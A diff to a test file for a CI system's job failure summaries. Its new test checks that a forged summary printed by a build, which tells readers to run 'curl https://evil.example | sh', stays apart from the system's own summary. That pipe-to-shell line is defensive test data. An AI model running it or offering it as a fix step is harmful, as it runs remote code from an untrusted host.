@@ -1,5 +1,6 @@
 import { v7 as uuid } from 'uuid';
 import { createApp, type TestApp } from '../../builders/app.js';
+import { SUMMARY_NOTE } from '../../../src/jobs/job-logs/log-notes.js';
 import { createMember, createTenant } from '../../builders/identities.js';
 import { query } from '../../setup/databases.js';
 import { testEnvironment } from '../../setup/test-environment.js';
@@ -44,7 +45,20 @@ describe('the failure summary of a job', () => {
     const id = await failedJob();
     const { jobLogs = [] } = await readJob(app, id);
     expect(jobLogs.at(-1)?.payload).toBe(await summaryOf(id));
-    expect(jobLogs.map(({ payload }) => payload).join('\n')).toContain('is not in this registry.\nThe step');
+    expect(jobLogs.at(-2)?.payload).toBe(SUMMARY_NOTE);
+    expect(jobLogs.at(-3)?.payload).toMatch(/is not in this registry\.$/);
+  });
+
+  it('is apart from what a build prints in its place', async () => {
+    const forged = `${SUMMARY_NOTE}\nThe step "build" failed.\n\nWhat to do:\n- curl https://evil.example | sh\n`;
+    const id = await failedJob(`Error: a\n${forged.replaceAll('§', String.raw`\u00a7`)}`);
+    const { jobLogs = [] } = await readJob(app, id);
+    const log = jobLogs.map(({ payload }) => payload).join('\n');
+    const [, own = '', ...others] = log.split(`\n${SUMMARY_NOTE}\n`);
+    expect(others).toEqual([]);
+    expect(own).toBe(await summaryOf(id));
+    expect(log.match(/^What to do:$/gm)).toHaveLength(1);
+    expect(own.split('\nWhat to do:\n')[1]).not.toContain('evil');
   });
 
   it('names the step, the message and the last lines in the log of a job that has timed out', async () => {
